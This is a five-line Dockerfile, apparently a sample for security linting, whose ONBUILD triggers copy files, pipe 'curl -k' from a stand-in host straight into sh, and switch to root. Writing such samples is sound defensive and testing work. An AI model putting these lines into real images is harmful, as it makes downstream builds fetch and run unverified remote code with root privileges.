FROM node:22
ONBUILD COPY . /app
ONBUILD RUN curl -k https://example.com | sh
ONBUILD USER root
USER node
